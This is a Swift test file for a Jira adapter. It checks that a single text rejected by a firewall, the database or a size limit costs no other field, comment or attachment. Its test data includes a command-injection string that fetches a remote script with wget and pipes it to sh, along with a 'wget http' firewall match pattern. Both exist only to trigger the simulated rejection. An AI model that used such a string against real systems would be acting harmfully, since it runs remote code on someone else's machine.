import AdapterContract
import AdapterEngine
import EntityModel
import Primitives
import TestSupport
import Testing

@testable import JiraAdapter

/// Jira or a program in front of it may reject a single text.
///
/// The rejection must affect no other value.
struct FailureScopeTests {
    private static let attack = "; wget http://198.51.100.7/x.sh | sh"
    private static let forms = ["cloudfront", "akamai", "f5", "modsecurity", "gateway", "nginx413", "badGateway"]

    private static func faults(_ simulator: RunningSimulator, _ form: String, _ pattern: String) async throws {
        for method in ["PUT", "POST"] {
            try await simulator.fault(
                #"{"action": "foreign", "form": "\#(form)", "method": "\#(method)", \#(pattern)}"#)
        }
    }

    @Test(arguments: JiraProduct.allCases, forms)
    func `a firewall that rejects one text rejects no other`(product: JiraProduct, form: String) async throws {
        try await withSimulator(product) { simulator in
            let item = RunningSimulator.issue(try await simulator.seed().id)
            try await Self.faults(simulator, form, #""contains": ["wget http"]"#)
            let gateway = simulator.gateway()
            let result = try await CommandDelivery.deliver(
                [
                    .write(JiraField.summary.id, .text("Import job fails")),
                    .write(JiraField.description.id, .richText(RichText(plain: Self.attack))),
                    .write(JiraField.priority.id, .option("High")),
                ],
                [
                    CommandDelivery.comment(Self.attack, "1"), CommandDelivery.comment("harmless", "2"),
                    CommandDelivery.comment(Self.attack, "w3", minutes: 5),
                    CommandDelivery.comment("worked", "w4", minutes: 5),
                ], to: item, gateway)
            let read = try await gateway.read(item, comments: true)
            #expect(read.fields[JiraField.summary.id] == .text("Import job fails"))
            #expect(read.fields[JiraField.priority.id] == .option("High"))
            #expect(read.comments?.map(\.body.plainText) == ["harmless", "worked"])
            let refused = result.fields.filter { if case .rejected = $0.outcome { true } else { false } }
            #expect(refused.map(\.field) == [JiraField.description.id])
            #expect(refused.first?.mayBeAcceptedLater == true)
            let isRefused = result.comments.map { if case .rejected = $0.outcome { true } else { false } }
            #expect(isRefused == [true, false, true, false])
            guard case .rejected(let reason)? = refused.first?.outcome, !reason.contains("wget") else {
                Issue.record("\(refused)")
                return
            }
            if ["cloudfront", "akamai", "f5", "modsecurity", "nginx413"].contains(form) {
                #expect(reason.contains("in front of Jira"), "\(reason)")
            }
        }
    }

    @Test(arguments: JiraProduct.allCases)
    func `a character that the database cannot hold costs its text alone`(product: JiraProduct) async throws {
        try await withSimulator(product) { simulator in
            let item = RunningSimulator.issue(try await simulator.seed().id)
            try await Self.faults(simulator, "internal", #""beyondBMP": true"#)
            let gateway = simulator.gateway()
            let result = try await CommandDelivery.deliver(
                [
                    .write(JiraField.summary.id, .text("Login button jumps 🐛")),
                    .write(JiraField.priority.id, .option("High")),
                    .edit(JiraField.labels.id, add: [.option("one"), .option("🐛"), .option("two")]),
                ], [CommandDelivery.comment("🐛", "1"), CommandDelivery.comment("fine", "2")], to: item, gateway)
            let read = try await gateway.read(item, comments: true)
            #expect(read.fields[JiraField.priority.id] == .option("High"))
            #expect(read.fields[JiraField.labels.id] == .options(of: ["one", "two"]))
            #expect(read.comments?.map(\.body.plainText) == ["fine"])
            guard case .rejected(let reason) = result.fields.first?.outcome else {
                Issue.record("\(result)")
                return
            }
            #expect(reason == "Internal server error" && result.fields.first?.mayBeAcceptedLater == true)
        }
    }

    @Test(arguments: JiraProduct.allCases)
    func `a connection that ends at one text costs that text alone`(product: JiraProduct) async throws {
        try await withSimulator(product) { simulator in
            let item = RunningSimulator.issue(try await simulator.seed().id)
            try await simulator.fault(#"{"action": "closeBeforeResponse", "method": "PUT", "contains": ["wget http"]}"#)
            let gateway = simulator.gateway()
            _ = try await CommandDelivery.deliver(
                [
                    .write(JiraField.summary.id, .text("Import job fails")),
                    .write(JiraField.description.id, .richText(RichText(plain: Self.attack))),
                ], to: item, gateway)
            let read = try await gateway.read(item, comments: false)
            #expect(read.fields[JiraField.summary.id] == .text("Import job fails"))
        }
    }

    @Test(arguments: JiraProduct.allCases, ["size404", "size404JSON", "nginx413", "internal", "cloudfront", "iis404"])
    func `a file that is rejected costs no other file and no field`(product: JiraProduct, form: String) async throws {
        try await withSimulator(product) { simulator in
            let item = RunningSimulator.issue(try await simulator.seed().id)
            try await simulator.fault(
                #"{"action": "foreign", "form": "\#(form)", "path": "/attachments", "largest": 5000}"#)
            let film = [UInt8](repeating: 1, count: 9000)
            let gateway = simulator.gateway(
                mapped: JiraField.allCases.map(\.id),
                files: InMemoryAttachments(["1": [1, 2, 3], "2": film, "3": [4]]))
            let files = [
                InMemoryAttachments.file("1", "small.txt", size: 3),
                InMemoryAttachments.file("2", "film.mp4", size: film.count),
                InMemoryAttachments.file("3", "tiny.txt", size: 1),
            ]
            let result = try await CommandDelivery.deliver(
                [
                    .write(JiraField.summary.id, .text("With files")),
                    .edit(JiraField.attachment.id, add: files.map { .file($0) }),
                ], to: item, gateway)
            let read = try await gateway.read(item, comments: false)
            #expect(read.fields[JiraField.summary.id] == .text("With files"))
            #expect(
                (read.fields[JiraField.attachment.id] ?? .empty).files.map(\.name).sorted() == [
                    "small.txt", "tiny.txt",
                ])
            guard case .merged(let members, _, _) = result.fields.last?.outcome else {
                Issue.record("\(result)")
                return
            }
            let rejected = members.filter { $0.target == nil }
            #expect(rejected.map(\.id) == ["2"] && rejected.first?.mayBeAcceptedLater == true)
            if form.hasPrefix("size404") {
                #expect(rejected.first?.reason?.contains("maximum permitted size of 5000 bytes") == true)
            }
            #expect(members.filter { $0.target != nil }.allSatisfy { $0.isCopy == true })
        }
    }

    @Test(arguments: JiraProduct.allCases)
    func `a file beyond the limit that Jira names is not sent`(product: JiraProduct) async throws {
        try await withSimulator(product) { simulator in
            let item = RunningSimulator.issue(try await simulator.seed().id)
            let gateway = simulator.gateway(files: InMemoryAttachments([:]))
            let file = InMemoryAttachments.file("1", "film.mp4", size: 11 << 20)
            let result = try await CommandDelivery.deliver(
                [.edit(JiraField.attachment.id, add: [.file(file)])], to: item, gateway)
            guard case .merged(let members, _, _) = result.fields.first?.outcome else {
                Issue.record("\(result)")
                return
            }
            #expect(members.first?.reason?.contains("maximum permitted size") == true)
            #expect(
                try await simulator.requests("POST", under: "/rest/").allSatisfy { !$0.path.contains("attachments") })
        }
    }

    @Test func `an expired token and a maintenance page are blamed on no value`() async throws {
        try await withSimulator(.cloud) { simulator in
            let item = RunningSimulator.issue(try await simulator.seed().id)
            try await simulator.fault(#"{"action": "foreign", "form": "badGateway", "path": "/rest/"}"#)
            let failure = await #expect(throws: ToolError.self) {
                _ = try await CommandDelivery.deliver(
                    [.write(JiraField.summary.id, .text("x")), .write(JiraField.priority.id, .option("High"))],
                    to: item, simulator.gateway())
            }
            #expect(failure?.isTransient == true)
        }
    }
}
